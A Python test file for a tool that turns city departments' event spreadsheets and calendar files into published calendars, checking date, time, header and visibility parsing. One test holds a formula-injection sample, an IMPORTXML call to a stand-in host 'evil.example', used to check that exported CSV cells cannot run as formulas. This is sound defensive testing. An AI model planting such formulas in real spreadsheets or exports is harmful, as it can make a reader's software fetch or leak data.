"""Cases a new user hit: each must be explained, never silent, never a crash."""
from datetime import date, datetime, time, timedelta
from dataclasses import replace

import pytest

from sheets_sync.backends import SourceError
from sheets_sync.backends.ics_source import read_calendar
from sheets_sync.backends.workbook import WorkbookBackend
from sheets_sync.merge import merge_rows
from sheets_sync.model import RawTab, Severity, Status
from sheets_sync.parsing import cancel_marker, parse_time_range
from sheets_sync.pipeline import analyse
from sheets_sync.validate import parse_tab
from tests.conftest import REALDATA

H = ("Title", "Start Date", "Start Time", "End Time", "Visibility")


def parse(config, *rows, header=H, title="Police"):
    return parse_tab(RawTab(title, header, tuple(rows)), config)


def test_header_typo_is_an_error_for_the_whole_tab(config):
    tabs = [RawTab("Police", ("Titel", "Start Date", "Visibility"), (("A", "8/5/2025", "Public"),)),
            RawTab("Notes", ("anything",), (("x",),)),
            RawTab("Fire", H, (("B", "8/5/2025", "6pm", None, "Public"),))]
    a = analyse(tabs, config)
    headers = [i for i in a.issues if i.column == "(header)"]
    assert len(headers) == 1                        # "Notes" is not meant as intake
    issue = headers[0]
    assert (issue.tab, issue.row, issue.severity) == ("Police", 1, Severity.ERROR)
    assert "no 'Title' column, so none of this tab's 1 row was read" in issue.problem
    assert "'Titel'" in issue.value
    assert a.rows_rejected == 0 and [r.title for r in a.rows] == ["B"]


@pytest.mark.parametrize("cell", ["1/1/9999", "8/5/225", date(1900, 1, 1)])
def test_implausible_years_are_rejected(config, cell):
    rows, issues = parse(config, ("A", cell, "6pm", None, "Public"))
    assert rows == []
    assert issues[0].column == "Start Date" and "looks like a typo" in issues[0].problem


def test_overnight_range_ends_next_day(config):
    rows, issues = parse(config, ("Late Shift Ride-along", "8/5/2025", "10 PM - 2 AM", None, "Public"),
                         ("Noon to midnight fair", "8/6/2025", "noon - midnight", None, "Public"))
    assert [(r.start.time(), r.end.date(), r.end.time()) for r in rows] == [
        (time(22), date(2025, 8, 6), time(2)), (time(12), date(2025, 8, 7), time(0))]
    assert issues == []


def test_tbd_and_all_day_times(config):
    rows, issues = parse(config, ("A", "8/5/2025", "TBD", None, "Public"),
                         ("B", "8/5/2025", "All day", None, "Public"),
                         ("C", "8/5/2025", "TBD?", None, "Public"),      # (a helper's check: rows rejected)
                         ("D", "8/5/2025", "?", None, "Public"))
    assert [r.all_day for r in rows] == [True, True, True, True]
    assert [(i.tab, i.row, i.column) for i in issues] == [("Police", 2, "Start Time"), ("Police", 4, "Start Time"),
                                                          ("Police", 5, "Start Time")]
    assert all("not decided" in i.problem for i in issues)


def test_an_end_date_before_a_timed_start_with_no_end_time_is_an_error(config):
    """A fresh city's check: Start Date Sat 9/12/2026 at 10am, End Date 9/11/2026 and no End
    Time was published ending the day before it began, with no line; it is the error an
    all-day row with that End Date gets."""
    h = ("Title", "Start Date", "Start Time", "End Time", "End Date", "Visibility")
    rows, issues = parse(config, ("Touch-a-Truck", "Sat 9/12/2026", "10am", None, "9/11/2026", "Public"),
                         ("Open House", "9/12/2026", "10am", None, "9/13/2026", "Public"), header=h)
    assert [r.title for r in rows] == ["Open House"]
    assert [(i.row, i.column, i.severity.value, i.problem) for i in issues] == [
        (2, "End Date", "error", "the end date is before the start date")]


def test_an_evening_start_and_a_morning_end_is_overnight(config):
    """v35 E16, V4, E7: a warming center 8pm–8am with no End Date, and an event past midnight
    whose End Date was typed as its first day, were rows left out; each now ends the next
    morning, with a warning asking for the End Date. An afternoon end before an afternoon
    start is still reversed times."""
    h = ("Title", "Start Date", "Start Time", "End Time", "End Date", "Visibility")
    rows, issues = parse(config, ("Warming Center", "1/15/2027", "8pm", "8am", None, "Public"),
                         ("New Year's Eve Dance", "12/31/2026", "9pm", "1am", "12/31/2026", "Public"),
                         ("Reversed", "1/16/2027", "5pm", "3pm", None, "Public"), header=h)
    assert [(r.title, r.end) for r in rows] == [
        ("Warming Center", datetime(2027, 1, 16, 8, tzinfo=config.tz)),
        ("New Year's Eve Dance", datetime(2027, 1, 1, 1, tzinfo=config.tz))]
    assert [(i.row, i.column, i.severity) for i in issues] == [
        (2, "End Time", Severity.WARNING), (3, "End Time", Severity.WARNING), (4, "End Time", Severity.ERROR)]
    assert "read as the next morning, 01/16/2027" in issues[0].problem


def test_an_early_hour_with_no_am_pm_is_the_afternoon_and_a_bare_end_follows_the_start(config):
    """v35 T15: "6:30" to "8:00" for an evening meeting was 6:30–8:00 am and never met its
    partner's 18:30 row. Hours 1–6 without am/pm are afternoon or evening (with a warning); an
    End Time without am/pm is its first reading after the start; "06:30" stays a 24-hour time."""
    rows, issues = parse(config, ("Block Watch Meeting", "10/5/2027", "6:30", "8:00", "Public"),
                         ("Fair", "10/6/2027", "10am", "2", "Public"),
                         ("Sunrise Run", "10/7/2027", "06:30", "8:00", "Public"))
    assert [(r.start.time(), r.end.time()) for r in rows] == [
        (time(18, 30), time(20)), (time(10), time(14)), (time(6, 30), time(8))]
    (issue,) = issues
    assert (issue.row, issue.column) == (2, "Start Time")
    assert issue.problem.startswith("'6:30' has no am/pm and is read as 6:30 PM (18:30)")
    # … also with words that change nothing around it (a helper's check: "5:30 sharp" to "7:30
    # sharp" was read as 5:30–7:30 am, without a word)
    rows, issues = parse(config, ("Block Party", "10/5/2027", "5:30 sharp", "7:30 sharp", "Public"))
    assert (rows[0].start.time(), rows[0].end.time()) == (time(17, 30), time(19, 30))
    assert [i.problem.split(" and ")[0] for i in issues] == ["'5:30 sharp' has no am/pm"]


def test_a_bare_hour_start_takes_its_half_of_the_day_from_the_end_time(config):
    """Three fresh helpers' sets: "10ish" to End Time "2 PM" (a fair), "6ish" to "8pm" (an
    evening meeting), "10ish" to "2" were errors, so a department's part was left out of a
    joint event. Read as the one range "10-2 PM" is: 10 am, 6 pm, 10 am, with a warning that
    says which. A bare hour with no End Time stays an error, its action naming its own hour;
    one said to be about so ("5ish") with no End Time is kept, shown all day (v56: after-action
    logs of "10ish" left nine rows out of the count), its likely hours read for matching."""
    rows, issues = parse(config, ("Public Safety Day", "5/16/2026", "10ish", "2 PM", "Public"),
                         ("Neighborhood Watch", "9/16/2025", "6ish", "8pm", "Public"),
                         ("Dispatch booth", "9/20/2025", "10ish", "2", "Public"),
                         ("Car Seat Check", "9/21/2025", "9", "11:30", "Public"),
                         ("Cookout", "9/22/2025", "5", None, "Public"),
                         ("Cookout", "9/23/2025", "5ish", None, "Public"),
                         ("Coffee", "9/24/2025", "about 10", None, "Public"))
    assert [(r.start.time(), r.end.time()) for r in rows[:4]] == [
        (time(10), time(14)), (time(18), time(20)), (time(10), time(14)), (time(9), time(11, 30))]
    assert [(r.start, r.all_day, r.said_hours) for r in rows[4:]] == [
        (date(2025, 9, 23), True, (16 * 60 + 15, 17 * 60 + 45)), (date(2025, 9, 24), True, (9 * 60 + 15, 10 * 60 + 45))]
    assert [(i.row, i.column, i.severity) for i in issues] == [
        (2, "Start Time", Severity.WARNING), (3, "Start Time", Severity.WARNING), (4, "Start Time", Severity.WARNING),
        (5, "Start Time", Severity.WARNING), (6, "Start Time", Severity.ERROR), (7, "Start Time", Severity.WARNING),
        (8, "Start Time", Severity.WARNING)]
    assert issues[0].problem == "'10ish' has no am/pm and is read as 10:00 AM, before the End Time (2 PM)"
    assert issues[1].problem.startswith("'6ish' has no am/pm and is read as 6:00 PM")
    assert issues[4].problem == "'5' has no am/pm" and issues[4].action.startswith("type 5am or 5pm")
    assert issues[5].problem == ("'5ish' has no am/pm and no End Time says which half of the day; shown as an "
                                 "all-day event") and issues[5].action == "type 5am or 5pm"


def test_a_row_dated_a_year_before_the_rest_of_its_tab_is_flagged(config):
    """v47: Fire's "Pumpkin Patrol - Engine 12" on 10/14/2024, in a tab of 2025-26 rows (the
    year copied from last year's sheet), was a stray 2024 event with no word. A row dated in a
    year before every other row of its tab, whose day a year later lies among them, draws a
    warning and is kept as typed; two such rows draw one each; three are a year of their own."""
    dates = ["7/12/2025", "8/5/2025", "9/20/2025", "12/6/2025", "3/14/2026", "6/27/2026"]
    rows, issues = parse(config, *((f"Event {n}", d, "6pm", None, "Public") for n, d in enumerate(dates)),
                         ("Pumpkin Patrol", "10/14/2024", "6:30pm", None, "Public"))
    assert rows[-1].start.date() == date(2024, 10, 14)
    (issue,) = issues
    assert (issue.row, issue.column, issue.value, issue.severity) == (8, "Start Date", "10/14/2024", Severity.WARNING)
    assert issue.problem == ("10/14/2024 is in 2024, before every other row of this tab (7/12/2025 to 6/27/2026): "
                             "last year's year left in the date?")
    assert issue.action.startswith("type the year, e.g. 10/14/2025")
    old = [(f"Old {n}", d, "6pm", None, "Public") for n, d in enumerate(("10/14/2024", "11/2/2024", "12/1/2024"))]
    _, issues = parse(config, *((f"Event {n}", d, "6pm", None, "Public") for n, d in enumerate(dates)), *old)
    assert issues == []


def test_a_start_time_in_words_with_no_clock_keeps_its_row(config):
    """v51 (held out): "noonish" and "after school" in Start Time were errors, so a
    three-department barbecue and a safety walk were left out of the count. "noonish" is noon;
    words with no clock in them are shown all day with a warning, as "dusk" is; "noon ET" and a
    typo with a digit ("xyz 5") are not words with no clock."""
    rows, issues = parse(config, ("BBQ", "7/12/2025", "noonish", None, "Public"),
                         ("Safety Walk", "3/19/2026", "after school", None, "Public"),
                         ("Meeting", "3/19/2026", "xyz 5", None, "Public"))
    assert [(r.title, r.all_day, r.start.time() if not r.all_day else None) for r in rows] == [
        ("BBQ", False, time(12)), ("Safety Walk", True, None)]
    assert [(i.row, i.severity, i.problem) for i in issues] == [
        (3, Severity.WARNING, "'after school' is no clock time; shown as an all-day event"),
        (4, Severity.ERROR, "could not read 'xyz 5' as a time")]
    # with an End Time: one warning, naming the words typed (not "no Start Time")
    _, issues = parse(config, ("Safety Walk", "3/19/2026", "after school", "5pm", "Public"))
    assert [i.problem for i in issues] == [
        "'after school' is no clock time; shown as an all-day event; the End Time is not used"]


def test_hours_typed_only_in_the_title_are_its_hours(config):
    """A README-only check: Fire's "Sound the Alarm 9am-2pm" with no Start or End Time was
    published all day, with no word. The title's one time of day or range is read as the
    Start Time would be, with a warning; a typed time wins; "Ages 5-12", "9/11" and two times
    ("6pm and 8pm") are no hours."""
    rows, issues = parse(config, ("Sound the Alarm 9am-2pm", "8/4/2025", None, None, "Public"),
                         ("First aid tent (10a-10p daily)", "8/4/2025", None, None, "Public"),
                         ("Sound the Alarm 9am-2pm", "8/4/2025", "10am", "1pm", "Public"),
                         ("Ages 5-12 Soccer", "8/4/2025", None, None, "Public"),
                         ("Class 6pm and 8pm", "8/4/2025", None, None, "Public"))
    assert [(r.start.time(), r.end.time()) if not r.all_day else "all day" for r in rows] == [
        (time(9), time(14)), (time(10), time(22)), (time(10), time(13)), "all day", "all day"]
    assert [(i.row, i.problem) for i in issues if i.column == "Start Time"] == [
        (2, "no time is typed; the hours in the title (9am-2pm) are used"),
        (3, "no time is typed; the hours in the title (10a-10p) are used")]


def test_a_header_missing_a_columns_name_is_said_once(config):
    """A fresh helper's workbook: "Event ID" left out of the header, so each value sat under the
    next column's name: fourteen "the title is blank" errors and no word of why. One warning on
    the header says the dates sit one column to the right of Start Date; a tab whose dates are
    where its header says draws none."""
    h = ("Title", "Start Date", "Start Time", "End Time", "Visibility")
    shifted = [("", f"Event {n}", f"8/{n + 1}/2025", "6pm", "8pm", "Public") for n in range(6)]
    _, issues = parse(config, *shifted, header=h)
    (said,) = [i for i in issues if i.row == 1]
    assert (said.column, said.value, said.severity) == ("(header)", "Start Date", Severity.WARNING)
    assert said.problem.startswith("in 6 rows the dates sit one column to the right of 'Start Date', under "
                                   "'Start Time'")
    _, issues = parse(config, *((f"Event {n}", "not a date", "6pm", "8pm", "Public") for n in range(6)), header=h)
    assert not [i for i in issues if i.row == 1]


def test_a_start_named_by_the_sky_is_all_day_with_a_warning(config):
    """v35 T4: "dusk" in Start Time had left the row out."""
    rows, issues = parse(config, ("Luminary Walk", "11/20/2027", "dusk", None, "Public"))
    assert rows[0].all_day and rows[0].start == date(2027, 11, 20)
    (issue,) = issues
    assert (issue.column, issue.problem) == ("Start Time", "'dusk' is no clock time; shown as an all-day event")


@pytest.mark.parametrize("text, expected", [
    ("12:00 noon", (time(12), None)), ("6:30pm-8", (time(18, 30), time(20))),
    ("11am-1", (time(11), time(13))),
    # v35 T20, T22: hours with no am/pm across noon, the one plain reading
    ("10-2", (time(10), time(14))), ("12-1", (time(12), time(13))), ("11:30 - 1", (time(11, 30), time(13))),
    # a fresh city's check: the second hour larger, each row had been dropped; read as a lone start is
    ("9:00 - 12", (time(9), time(12))), ("5:30-8", (time(17, 30), time(20))), ("1-4", (time(13), time(16))),
    ("10 - 11", (time(10), time(11)))])
def test_more_time_spellings(text, expected):
    assert parse_time_range(text) == expected


def test_a_guessed_half_of_the_day_is_said(config):
    """A sixth helper's check: "7-9" for an evening meeting was read as 7–9 am without a word.
    Two bare hours are read as a lone start is, and the Validation tab says which half."""
    h = ("Title", "Start Date", "Start Time", "Visibility")
    rows, issues = parse(config, ("Beat 214 Community Meeting", "5/4/2027", "7-9", "Public"), header=h)
    assert (rows[0].start.hour, rows[0].end.hour) == (7, 9)
    assert [i.problem for i in issues] == ["'7-9' has no am/pm and is read as 7:00 AM to 9:00 AM"]
    rows, issues = parse(config, ("Beat 214 Community Meeting", "5/4/2027", "7-9pm", "Public"), header=h)
    assert (rows[0].start.hour, rows[0].end.hour, issues) == (19, 21, [])


def test_cancel_marker():
    assert cancel_marker("CANCELED: Public Meeting on Future Police Headquarters") == (
        "Public Meeting on Future Police Headquarters", True)
    assert cancel_marker("BMG Hack - Cancelled") == ("BMG Hack", True)
    assert cancel_marker("Cancellation policy talk") == ("Cancellation policy talk", False)


def test_calendar_file_cancelled_titles_and_civicplus_all_day(config):
    tz = config.tz
    tab = read_calendar(REALDATA / "durhamnc_common_modules.ics", "Community Safety", tz)
    rows, _ = parse_tab(tab, config)
    creek = next(r for r in rows if "Creek Week" in r.title)
    assert creek.all_day and creek.start == date(2022, 3, 12) and creek.end == date(2022, 3, 19)
    tab = read_calendar(REALDATA / "gcal_bloomington_in_gov_department_events.ics", "Police", tz)
    rows, _ = parse_tab(tab, config)
    hq = {r.start.date(): r for r in rows if "Future Police Headquarters" in r.title}
    assert hq[date(2025, 1, 7)].status is Status.CANCELLED       # "CANCELED: Public Meeting on ..."
    assert hq[date(2025, 1, 7)].title == "Public Meeting on Future Police Headquarters"
    assert hq[date(2025, 1, 27)].status is Status.SCHEDULED      # the rescheduled meeting


def test_not_an_xlsx_file_is_a_message(tmp_path):
    path = tmp_path / "events.csv"
    path.write_text("a,b\n1,2\n")
    with pytest.raises(SourceError, match="is not a readable .xlsx workbook"):
        WorkbookBackend(path).read_tabs()


def test_a_header_typo_never_removes_the_tabs_events(config, make_workbook):
    """The Police tab's Title header is mistyped after a good sync: its events stay published
    as they were (not cancelled), and Validation says why none of its rows were read."""
    import icalendar
    import openpyxl

    from sheets_sync.pipeline import run_sync
    good = {"Police": [list(H), ["Coffee with a Cop", "8/5/2025", "8am", None, "Public"]],
            "Fire": [list(H), ["CPR", "8/6/2025", "10am", None, "Public"]]}
    make_workbook(good)
    first = run_sync(config, now=datetime(2025, 8, 1, 12))
    assert first["created"] == 2
    bad = {"Police": [["Titel", *H[1:]], good["Police"][1]], "Fire": good["Fire"]}
    make_workbook(bad)
    second = run_sync(config, now=datetime(2025, 8, 1, 13))
    assert second["removed"] == 0 and second["events"] == 2
    cal = icalendar.Calendar.from_ical((config.out_dir / "public/calendar.ics").read_bytes())
    status = {str(e["SUMMARY"]): str(e["STATUS"]) for e in cal.walk("VEVENT")}
    assert status == {"Coffee with a Cop": "CONFIRMED", "CPR": "CONFIRMED"}
    wb = openpyxl.load_workbook(config.report_path, read_only=True)
    rows = list(wb["Validation"].iter_rows(min_row=2, values_only=True))
    (line,) = [r for r in rows if r[0] == "error" and r[1] == "Police" and r[2] == 1]
    assert line[5] == ("no 'Title' column, so none of this tab's 1 row was read (the events it published "
                       "before stay as they were until it reads again)")
    # a tab emptied to nothing (no header, no rows) is said not to be read, not to have 0 rows unread
    make_workbook({"Police": [["Notes"]], "Fire": good["Fire"]})
    run_sync(config, now=datetime(2025, 8, 1, 14))
    wb = openpyxl.load_workbook(config.report_path, read_only=True)
    (line,) = [r for r in wb["Validation"].iter_rows(min_row=2, values_only=True) if r[1] == "Police" and r[2] == 1]
    assert line[5].startswith("no 'Title' or 'Start Date' column, so this tab was not read (the events")


def test_open_data_csv_cells_never_run_as_formulas():
    from reports.opendata import _inert
    assert _inert('=IMPORTXML("http://evil.example","//a")') == '\'=IMPORTXML("http://evil.example","//a")'
    assert _inert("@SUM(1+1)") == "'@SUM(1+1)" and _inert("+1 555") == "'+1 555"
    assert _inert("-5") == "-5" and _inert("Fire") == "Fire" and _inert("") == ""


def test_outlook_display_name_timezones_are_read_in_their_city(config):
    """Office-2012-owa.ics: TZID="(GMT+10:00) Canberra, Melbourne, Sydney" with no VTIMEZONE."""
    from datetime import timezone as _tz
    tab = read_calendar(REALDATA / "Office-2012-owa.ics", "Police", config.tz)
    rows, _ = parse_tab(tab, config)
    syd = next(r for r in rows if r.title == "TEST Syd")
    assert syd.start.astimezone(_tz.utc) == datetime(2020, 10, 28, 2, 30, tzinfo=_tz.utc)


def test_an_outlook_all_day_event_is_all_day(config, tmp_path):
    """A fresh city's check: Exchange writes an all-day event as midnight to midnight with
    X-MICROSOFT-CDO-ALLDAYEVENT:TRUE; it was published as a timed event at 00:00. Without the
    flag, midnight to midnight stays timed. Neither has a UID (as Outlook Web App exports): two
    such events starting at one instant had been read as one, the second lost without a word."""
    path = tmp_path / "fire.ics"
    event = ("BEGIN:VEVENT\r\nSUMMARY:{}\r\nDTSTART;TZID=\"(UTC-05:00) Eastern Time (US & Canada)\":20270925T000000\r\n"
             "DTEND;TZID=\"(UTC-05:00) Eastern Time (US & Canada)\":20270926T000000\r\n{}END:VEVENT\r\n")
    path.write_text("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:Microsoft Exchange Server 2010\r\n"
                    + event.format("Smoke Alarm Canvass", "X-MICROSOFT-CDO-ALLDAYEVENT:TRUE\r\n")
                    + event.format("Overnight Drill", "") + "END:VCALENDAR\r\n", newline="")
    rows, _ = parse_tab(read_calendar(path, "Fire", config.tz), config)
    by_title = {r.title: r for r in rows}
    canvass, drill = by_title["Smoke Alarm Canvass"], by_title["Overnight Drill"]
    assert canvass.all_day and canvass.start == date(2027, 9, 25)
    assert not drill.all_day and (drill.start.hour, drill.end - drill.start) == (0, timedelta(days=1))


def test_uid_less_events_of_one_title_and_start_at_two_places_stay_two(config, tmp_path):
    """A helper's check: an Outlook Web App export (no UIDs) with "Story Time in the Park" 10–11
    at Bryan Park and at Butler Park: their stand-in UIDs, made from title and start, were one,
    and the matcher merged them as one calendar event ("agree on one place"). The place now
    tells them apart; one event exported twice, place and all, stays one."""
    event = ("BEGIN:VEVENT\r\nSUMMARY:Story Time in the Park\r\nDTSTART;TZID=America/New_York:20270610T100000\r\n"
             "DTEND;TZID=America/New_York:20270610T110000\r\nLOCATION:{}\r\nEND:VEVENT\r\n")
    path = tmp_path / "parks.ics"
    path.write_text("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:Microsoft Exchange Server 2010\r\n"
                    + event.format("Bryan Park") + event.format("Butler Park") + "END:VCALENDAR\r\n", newline="")
    rows, _ = parse_tab(read_calendar(path, "Parks and Recreation", config.tz), config)
    assert len({r.external_uid for r in rows}) == 2
    assert len(merge_rows(rows, config).events) == 2
    path.write_text("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:Microsoft Exchange Server 2010\r\n"
                    + event.format("Bryan Park") * 2 + "END:VCALENDAR\r\n", newline="")
    rows, _ = parse_tab(read_calendar(path, "Parks and Recreation", config.tz), config)
    assert len(merge_rows(rows, config).events) == 1


def test_a_blank_visibility_is_not_published_yet_counts(config):
    """A new city's town hall went uncounted: its Visibility was blank, so it was kept Internal,
    and an event all of whose rows were Internal was internal work. A fresh helper's after-action
    logs (v56) from tabs with no Visibility column lost 11 of 46 joint events so. A blank
    Visibility still keeps the row off the site, but says nothing of internal work: only rows
    saying Internal make an event internal joint work; the line says so."""
    from reports.measures import internal_only
    h = ("Title", "Start Date", "Start Time", "Visibility", "Partner Departments")
    rows, issues = parse(config, ("Town Hall", "9/15/2026", "6pm", "", "Fire"),
                         ("Staff huddle", "9/16/2026", "6pm", "Internal", "Fire"), header=h)
    (issue,) = issues
    assert issue.problem == ("Visibility is blank; kept Internal so it is not published (it still counts in the "
                             "figures as a community event: only rows saying Internal are internal work)")
    assert [(r.visibility.value, r.visibility_said) for r in rows] == [("Internal", False), ("Internal", True)]
    town_hall, huddle = merge_rows(rows, config).events
    assert (internal_only(town_hall), internal_only(huddle)) == (False, True)
    # one row saying Internal beside one saying nothing: not internal work either (a README-only
    # check: a movie night logged with no Visibility beside Police's Internal patrol)
    assert not internal_only(merge_rows([rows[0], replace(rows[1], title="Town Hall", start=rows[0].start,
                                                          end=rows[0].end)], config).events[0])


def test_an_end_time_without_a_start_time_is_said(config):
    """A new city's "Narcan training": blank Start Time, End Time 8pm: shown all day, and the
    8pm was dropped without a line."""
    rows, issues = parse(config, ("Narcan training", "10/20/2026", "", "8pm", "Public"))
    assert rows[0].all_day
    (issue,) = issues
    assert (issue.column, issue.value) == ("End Time", "8pm") and "no Start Time" in issue.problem


def test_last_years_end_date_left_in_a_copied_row_ends_the_event_on_its_day(config):
    """A fresh city's check: Parks copied last year's "Earth Day Festival" row and changed only
    its Start Date (4/17/2027), its End Date left at 4/18/2026: "the event ends before it
    starts", the row left out and the festival unpublished. An End Date in an earlier year is
    that typo: the event ends on its start day, with a warning."""
    h = ("Title", "Start Date", "Start Time", "End Date", "End Time", "Visibility")
    rows, issues = parse(config, ("Earth Day Festival", "4/17/2027", "10:00 AM", "4/18/2026", "3:00 PM", "Public"),
                         header=h, title="Parks and Recreation")
    (row,) = rows
    assert (row.start.date(), row.end.date(), row.end.hour) == (date(2027, 4, 17), date(2027, 4, 17), 15)
    assert [(i.column, i.severity) for i in issues] == [("End Date", Severity.WARNING)]
    rows, issues = parse(config, ("Earth Day Festival", "4/17/2027", "10:00 AM", "4/16/2027", "3:00 PM", "Public"),
                         header=h, title="Parks and Recreation")
    assert rows == [] and [i.column for i in issues] == ["End Date"]      # the same year: still an error
    # the year typed from habit (a sixth helper's check): last year's in January, the start's for
    # an end across New Year: the same day within 31 days, as an End Date without its year
    for start, end, meant in (("1/4/2027", "1/8/2026", date(2027, 1, 8)), ("12/31/2026", "1/1/2026", date(2027, 1, 1))):
        rows, issues = parse(config, ("Winter Break Camp", start, "8:00 PM", end, "1:00 AM", "Public"), header=h,
                             title="Parks and Recreation")
        assert rows[0].end.date() == meant and [i.column for i in issues] == ["End Date"], start


def test_a_date_and_its_hours_pasted_in_one_cell(config):
    """v53 (held out): rows pasted from Outlook held the whole "Tue 8/5/2025 5:00 PM - 8:00 PM" in
    Start Date (or in Start Time beside the date), and were rejected: an NNO party, a Touch a
    Truck and an all-department expo's 911 table left out of the count. The date and the hours
    are read, with a warning; a Start Time holding another date than the Start Date's stays an
    error; a day range ("Oct 10-12, 2025") is no date with hours."""
    from sheets_sync.parsing import date_and_hours
    assert date_and_hours("Tue 8/5/2025 5:00 PM - 8:00 PM") == ("Tue 8/5/2025", "5:00 PM - 8:00 PM", None)
    assert date_and_hours("Tuesday, August 5, 2025 5:00 PM-8:00 PM") == (
        "Tuesday, August 5, 2025", "5:00 PM-8:00 PM", None)
    assert date_and_hours("Aug 5, 2025, 5-8pm") == ("Aug 5, 2025", "5-8pm", None)
    assert date_and_hours("2025-08-05 17:00-20:00") == ("2025-08-05", "17:00-20:00", None)
    # (a README-only check: 24-hour clocks with no colon, and a date on each side, had been lost)
    assert date_and_hours("8/3/2027 1700-2000") == ("8/3/2027", "1700-2000", None)
    assert date_and_hours("8/3/2027 1700") == ("8/3/2027", "1700", None)
    assert date_and_hours("8/3/2027 5:00 PM - 8/3/2027 8:00 PM") == ("08/03/2027", "17:00 - 20:00", None)
    assert date_and_hours("Tue 8/3/2027 10:00 PM - Wed 8/4/2027 2:00 AM") == ("08/03/2027", "22:00 - 02:00",
                                                                               "08/04/2027")
    # Outlook's all-day copy, midnight to midnight, is all day (a second README-only check: timed)
    assert date_and_hours("Tue 8/3/2027 12:00 AM - Wed 8/4/2027 12:00 AM") == ("08/03/2027", "", None)
    assert date_and_hours("Fri 8/6/2027 12:00 AM - Mon 8/9/2027 12:00 AM") == ("08/06/2027", "", "08/08/2027")
    assert [date_and_hours(t) for t in ("Oct 10-12, 2025", "Oct 10 - 12", "8/5/2025", "Tue 8/5/2025 5:00 PM",
                                        "8/5/2025 18:30", "Bike Rodeo 5:00-8:00 PM", "Aug 5 2025",
                                        "9/5/2026 - 9/7/2026", "8/5/2025 - Aug 7, 2025",
                                        "5:00 PM - 8:00 PM")] == [None] * 10
    # anything else a Start Time may hold after a whole date is read as Start Time is (a second
    # README-only check: "12/30/2027 10-2" was published all day, "12/29/2027 6:30" at 6:30 am)
    assert [date_and_hours(t) for t in ("12/30/2027 10-2", "12/29/2027 6:30", "8/31/2027 noon - 2pm",
                                        "9/16/2027 @ 5pm", "12/23/2027 1710")] == [
        ("12/30/2027", "10-2", None), ("12/29/2027", "6:30", None), ("8/31/2027", "noon - 2pm", None),
        ("9/16/2027", "5pm", None), ("12/23/2027", "1710", None)]
    header = ("Title", "Start Date", "Start Time", "End Time", "Visibility")
    rows, issues = parse(config, ("NNO", "Tue 8/5/2025 5:00 PM - 8:00 PM", None, None, "Public"),
                         ("Expo table", "Mar 21, 2026", "Sat 3/21/2026 10:00 AM - 1:00 PM", None, "Public"),
                         ("Expo table", "Mar 21, 2026", "Sun 3/22/2026 10:00 AM - 1:00 PM", None, "Public"),
                         ("Beach patrol", "Tue 8/3/2027 10:00 PM - Wed 8/4/2027 2:00 AM", None, None, "Public"),
                         ("Movie", "8/3/2027 1700-2000", None, None, "Public"),
                         ("Movie", "8/3/2027 5:00 PM - 8:00 PM", "6pm", None, "Public"),
                         ("Meeting", "12/29/2027 6:30", None, None, "Public"),
                         ("Meeting", "12/23/2027 1710", None, None, "Public"),
                         header=header)
    assert [(r.start.replace(tzinfo=None), r.end.replace(tzinfo=None)) for r in rows] == [
        (datetime(2025, 8, 5, 17), datetime(2025, 8, 5, 20)), (datetime(2026, 3, 21, 10), datetime(2026, 3, 21, 13)),
        (datetime(2027, 8, 3, 22), datetime(2027, 8, 4, 2)), (datetime(2027, 8, 3, 17), datetime(2027, 8, 3, 20)),
        (datetime(2027, 8, 3, 18), datetime(2027, 8, 3, 19)),
        (datetime(2027, 12, 29, 18, 30), datetime(2027, 12, 29, 19, 30))]
    issues = [i for i in issues if "last year's year" not in i.problem]     # (this test's rows span three years)
    assert [(i.row, i.column, i.severity) for i in issues if i.column in ("Start Date", "Start Time")] == [
        (2, "Start Date", Severity.WARNING), (3, "Start Time", Severity.WARNING), (4, "Start Time", Severity.ERROR),
        (5, "Start Date", Severity.WARNING), (6, "Start Date", Severity.WARNING), (7, "Start Date", Severity.WARNING),
        (8, "Start Date", Severity.WARNING), (8, "Start Time", Severity.WARNING),       # (6:30 is read as pm, said)
        (9, "Start Date", Severity.WARNING), (9, "Start Time", Severity.ERROR)]          # (1710: no quarter hour)
    assert issues[0].problem == "the date and the hours are typed in one cell: read as Tue 8/5/2025, 5:00 PM - 8:00 PM"
    assert "holds a date (Sun 3/22/2026) that is not the Start Date (03/21/2026)" in issues[2].problem
    assert issues[3].problem == ("the date and the hours are typed in one cell: read as 08/03/2027 to 08/04/2027, "
                                 "22:00 - 02:00")
    assert [i.problem for i in issues if i.row == 7][0].endswith("its hours (5:00 PM - 8:00 PM) are not used, "
                                                               "Start Time says 6pm")


def test_outlook_and_google_copies_of_an_event_with_their_zone_or_dot(config):
    """A README-only check: Outlook's copy ends the hours with its zone's Windows name, "(UTC-05:00)
    Eastern Time (US & Canada)" (its "UTC" had been read as the zone, the rest as a time: the row
    rejected); Google's copy joins date and hours with "⋅" and leaves this year out, "Tuesday,
    August 4⋅6:00 – 8:00pm" (rejected too). The city's own zone is dropped, another converted
    with a warning; a name of the city's standard offset naming no zone known here is the
    city's; one of another offset is an error."""
    from sheets_sync.zones import display_zone
    assert [display_zone(n) for n in ("(UTC-05:00) Eastern Time (US & Canada)", "(UTC-06:00) Central Time (US & "
                                      "Canada)", "(UTC-09:00) Alaska", "(UTC) Coordinated Universal Time",
                                      "(UTC-07:00) Nowhere Land", "6:00 PM")] == [
        "America/New_York", "America/Chicago", "America/Anchorage", "UTC", None, None]
    rows, issues = parse(config,
                         ("Town Hall", "Tue 8/4/2026 6:00 PM - 8:00 PM (UTC-05:00) Eastern Time (US & Canada)",
                          None, None, "Public"),
                         ("Town Hall", "8/5/2026", "6:00 PM (UTC-06:00) Central Time (US & Canada)", None, "Public"),
                         ("Town Hall", "Thursday, August 6⋅6:00 – 8:00pm", None, None, "Public"),
                         ("Town Hall", "8/7/2026", "6:00 PM (UTC-05:00) Nowhere Time", "8 PM", "Public"),
                         ("Town Hall", "8/8/2026", "6:00 PM (UTC+03:00) Nowhere Time", None, "Public"),
                         header=("Title", "Start Date", "Start Time", "End Time", "Visibility"))
    assert [(r.start.replace(tzinfo=None), r.end.replace(tzinfo=None)) for r in rows] == [
        (datetime(2026, 8, 4, 18), datetime(2026, 8, 4, 20)), (datetime(2026, 8, 5, 19), datetime(2026, 8, 5, 20)),
        (datetime(2026, 8, 6, 18), datetime(2026, 8, 6, 20)), (datetime(2026, 8, 7, 18), datetime(2026, 8, 7, 20))]
    assert config.timezone == "America/New_York" and rows[0].start.utcoffset() == timedelta(hours=-4)   # (EDT)
